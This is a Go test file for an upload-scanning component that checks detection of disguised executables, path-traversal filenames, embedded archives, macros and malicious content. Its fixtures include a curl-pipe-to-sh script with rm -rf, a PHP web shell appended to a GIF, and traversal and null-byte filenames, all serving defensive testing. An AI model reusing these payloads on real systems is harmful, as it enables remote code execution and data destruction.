package scanner

import (
	"bytes"
	"encoding/binary"
	"math/rand"
	"reflect"
	"strings"
	"testing"

	"github.com/pulseboard/sentinel/internal/threat"
	"github.com/pulseboard/sentinel/internal/types"
)

func TestBinaryScan_CleanJPEG(t *testing.T) {
	cat := builtinCatalog(t)
	got := NewBinaryScanner(DefaultLimits()).Scan(image("holiday.jpg", "image/jpeg", jpegBytes(2048)), cat)
	if len(got) != 0 {
		t.Errorf("clean JPEG produced findings: %v", got)
	}
}

func TestBinaryScan_SignatureGroundTruth(t *testing.T) {
	cat := builtinCatalog(t)
	s := NewBinaryScanner(DefaultLimits())
	data := jpegBytes(512)

	asPNG := worst(s.Scan(image("photo.png", "image/png", data), cat))
	if asPNG[threat.SignatureMismatch] != threat.High {
		t.Errorf("JPEG bytes declared as PNG: want SignatureMismatch High, got %v", asPNG)
	}

	asJPEG := worst(s.Scan(image("photo.jpg", "image/jpeg", data), cat))
	if _, ok := asJPEG[threat.SignatureMismatch]; ok {
		t.Errorf("JPEG bytes declared as JPEG reported a mismatch: %v", asJPEG)
	}
}

func TestBinaryScan_WebPWildcard(t *testing.T) {
	cat := builtinCatalog(t)
	data := append([]byte("RIFF\x24\x00\x00\x00WEBPVP8 "), make([]byte, 100)...)
	got := worst(NewBinaryScanner(DefaultLimits()).Scan(image("a.webp", "image/webp", data), cat))
	if _, ok := got[threat.SignatureMismatch]; ok {
		t.Errorf("WebP with size bytes rejected: %v", got)
	}
}

func TestBinaryScan_ExecutableDetection(t *testing.T) {
	cat := builtinCatalog(t)
	data := append([]byte{0x4D, 0x5A, 0x90, 0x00}, make([]byte, 252)...)
	findings := NewBinaryScanner(DefaultLimits()).Scan(image("photo.jpg", "image/jpeg", data), cat)

	f, ok := findRule(findings, "pe-mz")
	if !ok || f.Kind != threat.ExecutableSignature || f.Severity != threat.Critical {
		t.Fatalf("want pe-mz ExecutableSignature Critical, got %v", findings)
	}
	if v := threat.Aggregate(findings, threat.DefaultRiskConfig()); v.Safe {
		t.Error("executable upload must be unsafe")
	}
}

func TestBinaryScan_Filenames(t *testing.T) {
	cat := builtinCatalog(t)
	s := NewBinaryScanner(DefaultLimits())
	data := jpegBytes(256)

	tests := []struct {
		name     string
		filename string
		kind     threat.RuleKind
		sev      threat.Severity
	}{
		{"traversal", "../../etc/passwd.jpg", threat.PathTraversal, threat.High},
		{"backslash", `..\..\boot.jpg`, threat.PathTraversal, threat.High},
		{"encoded traversal", "x%2e%2e%2fphoto.jpg", threat.PathTraversal, threat.High},
		{"overlong slash", "x..%c0%afphoto.jpg", threat.PathTraversal, threat.High},
		{"reserved", "CON.jpg", threat.ReservedName, threat.High},
		{"reserved lowercase", "lpt1.jpg", threat.ReservedName, threat.High},
		{"hidden executable", "invoice.exe.jpg", threat.DoubleExtension, threat.Critical},
		{"null byte", "photo.jpg\x00.exe", threat.InvalidFilename, threat.High},
		{"control char", "pho\x07to.jpg", threat.InvalidFilename, threat.Medium},
		{"trailing dot", "photo.jpg.", threat.InvalidFilename, threat.Medium},
		{"fullwidth", "ｐｈｏｔｏ.ｊｐｇ", threat.InvalidFilename, threat.Low},
		{"too long", strings.Repeat("a", 300) + ".jpg", threat.InvalidFilename, threat.Medium},
		{"no extension", "photo", threat.InvalidFilename, threat.Medium},
		{"executable", "payload.exe", threat.DangerousExtension, threat.Critical},
		{"unknown extension", "photo.xyz", threat.DangerousExtension, threat.High},
		{"wrong category", "report.pdf", threat.DangerousExtension, threat.High},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := worst(s.Scan(image(tt.filename, "", data), cat))
			if got[tt.kind] < tt.sev {
				t.Errorf("%q: want %s >= %s, got %v", tt.filename, tt.kind, tt.sev, got)
			}
		})
	}
}

func TestBinaryScan_CompoundExtensionAllowed(t *testing.T) {
	cat := builtinCatalog(t)
	data := append([]byte{0x1F, 0x8B, 0x08, 0x00}, make([]byte, 60)...)
	sub := BinarySubject{
		Bytes: data, DeclaredName: "backup.tar.gz", DeclaredMediaType: "application/gzip",
		DeclaredSize: int64(len(data)), Category: types.CategoryArchive,
	}
	got := NewBinaryScanner(DefaultLimits()).Scan(sub, cat)
	if len(got) != 0 {
		t.Errorf("backup.tar.gz produced findings: %v", got)
	}
}

func TestBinaryScan_MediaTypeMismatch(t *testing.T) {
	cat := builtinCatalog(t)
	s := NewBinaryScanner(DefaultLimits())

	got := worst(s.Scan(image("photo.jpg", "image/png", jpegBytes(64)), cat))
	if got[threat.MediaTypeMismatch] != threat.Medium {
		t.Errorf("jpg declared png: %v", got)
	}

	got = worst(s.Scan(image("photo.jpg", "application/pdf", jpegBytes(64)), cat))
	if got[threat.MediaTypeMismatch] != threat.High {
		t.Errorf("pdf declared for image upload: %v", got)
	}
}

func TestBinaryScan_ShellScript(t *testing.T) {
	cat := builtinCatalog(t)
	data := []byte("#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\nrm -rf /tmp/x\n")
	sub := BinarySubject{
		Bytes: data, DeclaredName: "notes.txt", DeclaredMediaType: "text/plain",
		DeclaredSize: int64(len(data)), Category: types.CategoryDocument,
	}
	got := worst(NewBinaryScanner(DefaultLimits()).Scan(sub, cat))
	if got[threat.ScriptSignature] != threat.Critical {
		t.Errorf("want ScriptSignature Critical, got %v", got)
	}
	if got[threat.MaliciousContent] != threat.Critical {
		t.Errorf("want download-and-execute content finding, got %v", got)
	}
}

func TestCheckShebang(t *testing.T) {
	if _, ok := checkShebang([]byte("hello")); ok {
		t.Error("plain text reported as script")
	}
	f, ok := checkShebang([]byte("#!/usr/bin/env python3\n"))
	if !ok || f.Severity != threat.High {
		t.Errorf("interpreter line alone: %v %v", f, ok)
	}
	f, ok = checkShebang([]byte("#!/bin/bash\necho hi\n"))
	if !ok || f.Severity != threat.Critical {
		t.Errorf("bash script: %v %v", f, ok)
	}
}

func TestBinaryScan_ContentRules(t *testing.T) {
	cat := builtinCatalog(t)
	data := append([]byte("GIF89a\x01\x00\x01\x00"), make([]byte, 40)...)
	payload := "<?php system($_GET['c']); ?>"
	off := len(data)
	data = append(data, payload...)

	findings := NewBinaryScanner(DefaultLimits()).Scan(image("anim.gif", "image/gif", data), cat)
	f, ok := findRule(findings, "php-open-tag")
	if !ok {
		t.Fatalf("php payload not found: %v", findings)
	}
	if f.Kind != threat.MaliciousContent || f.Severity != threat.Critical {
		t.Errorf("finding = %v", f)
	}
	if f.Offset == nil || *f.Offset != int64(off) {
		t.Errorf("offset = %v, want %d", f.Offset, off)
	}
	if _, ok := findRule(findings, "webshell-exec"); !ok {
		t.Error("system($_GET) not reported")
	}
}

func TestBinaryScan_Entropy(t *testing.T) {
	cat := builtinCatalog(t)
	s := NewBinaryScanner(DefaultLimits())

	random := make([]byte, 4096)
	rand.New(rand.NewSource(1)).Read(random)
	copy(random, jpegBytes(11)[:11])
	got := worst(s.Scan(image("noise.jpg", "image/jpeg", random), cat))
	if got[threat.HighEntropy] != threat.Medium {
		t.Errorf("random bytes: want HighEntropy Medium, got %v", got)
	}

	constant := bytes.Repeat([]byte{0x41}, 4096)
	copy(constant, jpegBytes(11)[:11])
	got = worst(s.Scan(image("flat.jpg", "image/jpeg", constant), cat))
	if _, ok := got[threat.HighEntropy]; ok {
		t.Errorf("constant bytes reported HighEntropy: %v", got)
	}

	// entropy alone never flips the verdict
	v := threat.Aggregate([]threat.Finding{threat.NewFinding(threat.HighEntropy, threat.Medium, "x")}, threat.DefaultRiskConfig())
	if !v.Safe {
		t.Error("HighEntropy alone made the verdict unsafe")
	}
}

func TestShannonEntropy(t *testing.T) {
	all := make([]byte, 256)
	for i := range all {
		all[i] = byte(i)
	}
	tests := []struct {
		name string
		data []byte
		want float64
	}{
		{"empty", nil, 0},
		{"constant", bytes.Repeat([]byte{7}, 100), 0},
		{"two symbols", []byte("abababab"), 1},
		{"uniform", all, 8},
	}
	for _, tt := range tests {
		if got := ShannonEntropy(tt.data); got < tt.want-1e-9 || got > tt.want+1e-9 {
			t.Errorf("%s: ShannonEntropy = %f, want %f", tt.name, got, tt.want)
		}
	}
}

func TestBinaryScan_EmbeddedArchive(t *testing.T) {
	cat := builtinCatalog(t)
	data := append(jpegBytes(64), zipBytes(t, "evil.exe", "../escape.txt", "word/vbaProject.bin")...)

	findings := NewBinaryScanner(DefaultLimits()).Scan(image("photo.jpg", "image/jpeg", data), cat)
	var embedded *threat.Finding
	for i, f := range findings {
		if f.Kind == threat.EmbeddedArchive {
			embedded = &findings[i]
			break
		}
	}
	if embedded == nil || embedded.Offset == nil || *embedded.Offset != 64 {
		t.Fatalf("want EmbeddedArchive at offset 64, got %v", findings)
	}

	got := worst(findings)
	if got[threat.DangerousExtension] != threat.Critical {
		t.Errorf("evil.exe entry not reported: %v", got)
	}
	if got[threat.PathTraversal] != threat.High {
		t.Errorf("../escape.txt entry not reported: %v", got)
	}
	if got[threat.EmbeddedObject] != threat.High {
		t.Errorf("vbaProject.bin entry not reported: %v", got)
	}
}

func TestBinaryScan_DocxContainer(t *testing.T) {
	cat := builtinCatalog(t)
	data := zipBytes(t, "[Content_Types].xml", "_rels/.rels", "word/document.xml")
	sub := BinarySubject{
		Bytes:             data,
		DeclaredName:      "minutes.docx",
		DeclaredMediaType: "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
		DeclaredSize:      int64(len(data)),
		Category:          types.CategoryDocument,
	}
	if got := NewBinaryScanner(DefaultLimits()).Scan(sub, cat); len(got) != 0 {
		t.Errorf("plain docx produced findings: %v", got)
	}

	sub.Bytes = zipBytes(t, "[Content_Types].xml", "word/document.xml", "word/vbaProject.bin")
	sub.DeclaredSize = int64(len(sub.Bytes))
	if got := worst(NewBinaryScanner(DefaultLimits()).Scan(sub, cat)); got[threat.EmbeddedObject] != threat.High {
		t.Errorf("macro docx: %v", got)
	}
}

func TestBinaryScan_ZipOnImage(t *testing.T) {
	cat := builtinCatalog(t)
	data := zipBytes(t, "a.txt")
	findings := NewBinaryScanner(DefaultLimits()).Scan(image("photo.png", "image/png", data), cat)
	f, ok := findRule(findings, "zip-local-header")
	if !ok || f.Kind != threat.EmbeddedArchive {
		t.Errorf("ZIP declared as PNG: %v", findings)
	}
}

func TestBinaryScan_ArchiveEntryLimit(t *testing.T) {
	cat := builtinCatalog(t)
	padding := func(n int) []string {
		names := make([]string, n)
		for i := range names {
			names[i] = strings.Repeat("f", i+1) + ".txt"
		}
		return names
	}
	// rewrites the end record so it claims a single entry
	understated := func(data []byte) []byte {
		out := bytes.Clone(data)
		i := bytes.LastIndex(out, []byte("PK\x05\x06"))
		binary.LittleEndian.PutUint16(out[i+8:], 1)
		binary.LittleEndian.PutUint16(out[i+10:], 1)
		return out
	}

	tests := []struct {
		name     string
		data     []byte
		wantSev  threat.Severity
		wantSafe bool
	}{
		{"at limit", zipBytes(t, padding(10)...), threat.None, true},
		{"over limit", zipBytes(t, padding(12)...), threat.Critical, false},
		{"executable past limit", zipBytes(t, append(padding(12), "payload/evil.exe")...), threat.Critical, false},
		{"end record understates entries", understated(zipBytes(t, padding(12)...)), threat.Critical, false},
	}
	l := DefaultLimits()
	l.MaxArchiveEntries = 10
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			sub := BinarySubject{Bytes: tt.data, DeclaredName: "files.zip", DeclaredMediaType: "application/zip",
				DeclaredSize: int64(len(tt.data)), Category: types.CategoryArchive}
			findings := NewBinaryScanner(l).Scan(sub, cat)
			if got := worst(findings); got[threat.EmbeddedObject] != tt.wantSev {
				t.Errorf("EmbeddedObject = %s, want %s: %v", got[threat.EmbeddedObject], tt.wantSev, findings)
			}
			if v := threat.Aggregate(findings, threat.DefaultRiskConfig()); v.Safe != tt.wantSafe {
				t.Errorf("Safe = %v, want %v: %v", v.Safe, tt.wantSafe, findings)
			}
			if !tt.wantSafe && worst(findings)[threat.DangerousExtension] != threat.None {
				t.Errorf("entries past the limit were parsed: %v", findings)
			}
		})
	}
}

func TestBinaryScan_UninspectableArchive(t *testing.T) {
	cat := builtinCatalog(t)
	full := zipBytes(t, "a.txt", "b.txt")
	tests := []struct {
		name string
		data []byte
	}{
		{"missing end record", full[:len(full)-22]},
		{"zip magic only", append([]byte("PK\x03\x04"), make([]byte, 64)...)},
		{"directory size past the end record", func() []byte {
			out := bytes.Clone(full)
			i := bytes.LastIndex(out, []byte("PK\x05\x06"))
			binary.LittleEndian.PutUint32(out[i+12:], uint32(len(out)))
			return out
		}()},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			sub := BinarySubject{Bytes: tt.data, DeclaredName: "files.zip", DeclaredMediaType: "application/zip",
				DeclaredSize: int64(len(tt.data)), Category: types.CategoryArchive}
			if got := worst(NewBinaryScanner(DefaultLimits()).Scan(sub, cat)); got[threat.EmbeddedObject] < threat.High {
				t.Errorf("uninspectable archive not reported at High: %v", got)
			}
		})
	}
}

func TestBinaryScan_Size(t *testing.T) {
	cat := builtinCatalog(t)
	s := NewBinaryScanner(DefaultLimits())

	got := worst(s.Scan(image("empty.jpg", "image/jpeg", []byte{}), cat))
	if got[threat.EmptyFile] != threat.Medium {
		t.Errorf("empty file: %v", got)
	}

	sub := image("photo.jpg", "image/jpeg", jpegBytes(100))
	sub.DeclaredSize = 120
	got = worst(s.Scan(sub, cat))
	if got[threat.SizeMismatch] != threat.Low {
		t.Errorf("size mismatch: %v", got)
	}

	l := DefaultLimits()
	l.SizeTolerance = 32
	if got := worst(NewBinaryScanner(l).Scan(sub, cat)); got[threat.SizeMismatch] != threat.None {
		t.Errorf("difference within tolerance reported: %v", got)
	}

	unreported := image("photo.jpg", "image/jpeg", jpegBytes(100))
	unreported.DeclaredSize = 0
	if got := worst(s.Scan(unreported, cat)); got[threat.SizeMismatch] != threat.None {
		t.Errorf("size compared although none was declared: %v", got)
	}
}

func TestBinaryScan_BoundedCost(t *testing.T) {
	cat := builtinCatalog(t)
	l := DefaultLimits()
	l.ContentScanPrefix = 256
	l.EntropySampleSize = 128
	s := NewBinaryScanner(l)

	base := jpegBytes(256)
	a := append(append([]byte{}, base...), bytes.Repeat([]byte{0}, 512)...)
	b := append(append([]byte{}, base...), []byte("<script>alert(1)</script> PK\x03\x04")...)
	b = append(b, make([]byte, 512-len(b)+256)...)

	fa := s.Scan(BinarySubject{Bytes: a, DeclaredName: "x.jpg", DeclaredMediaType: "image/jpeg", Category: types.CategoryImage}, cat)
	fb := s.Scan(BinarySubject{Bytes: b, DeclaredName: "x.jpg", DeclaredMediaType: "image/jpeg", Category: types.CategoryImage}, cat)
	if !reflect.DeepEqual(fa, fb) {
		t.Errorf("content past the prefix changed findings:\n%v\n%v", fa, fb)
	}
}

func TestBinaryScan_Deterministic(t *testing.T) {
	cat := builtinCatalog(t)
	s := NewBinaryScanner(DefaultLimits())
	data := append(jpegBytes(64), zipBytes(t, "evil.exe")...)
	sub := image("invoice.exe.jpg", "image/png", data)

	first := s.Scan(sub, cat)
	for i := 0; i < 5; i++ {
		if got := s.Scan(sub, cat); !reflect.DeepEqual(first, got) {
			t.Fatalf("run %d differs", i)
		}
	}
}

func TestGuardRecoversPanic(t *testing.T) {
	prior := []threat.Finding{threat.NewFinding(threat.HighEntropy, threat.Medium, "x")}
	got := guard("boom", prior, func() []threat.Finding { panic("bad rule") })
	if len(got) != 2 || got[1].Kind != threat.RuleEvaluationError || got[1].Severity != threat.Medium {
		t.Errorf("guard = %v", got)
	}
	if !strings.Contains(got[1].Detail, "bad rule") {
		t.Errorf("detail = %q", got[1].Detail)
	}
}

func TestBinarySubjectValidate(t *testing.T) {
	cat := builtinCatalog(t)
	tests := []struct {
		name    string
		subject BinarySubject
		wantErr bool
	}{
		{"ok", image("a.jpg", "image/jpeg", []byte{1}), false},
		{"empty but present", image("a.jpg", "image/jpeg", []byte{}), false},
		{"absent bytes", image("a.jpg", "image/jpeg", nil), true},
		{"empty name", image("  ", "image/jpeg", []byte{1}), true},
		{"negative size", BinarySubject{Bytes: []byte{1}, DeclaredName: "a.jpg", DeclaredSize: -1, Category: types.CategoryImage}, true},
		{"unknown category", BinarySubject{Bytes: []byte{1}, DeclaredName: "a.jpg", Category: "video"}, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := tt.subject.Validate(cat)
			if (err != nil) != tt.wantErr {
				t.Fatalf("err = %v, wantErr %v", err, tt.wantErr)
			}
			if err != nil && !threat.IsInvalidInput(err) {
				t.Errorf("error kind = %v", threat.GetKind(err))
			}
		})
	}
}

func BenchmarkBinaryScan(b *testing.B) {
	cat := builtinCatalog(b)
	s := NewBinaryScanner(DefaultLimits())
	data := make([]byte, 2<<20)
	rand.New(rand.NewSource(2)).Read(data)
	copy(data, jpegBytes(11)[:11])
	sub := image("big.jpg", "image/jpeg", data)

	b.SetBytes(int64(len(data)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		s.Scan(sub, cat)
	}
}
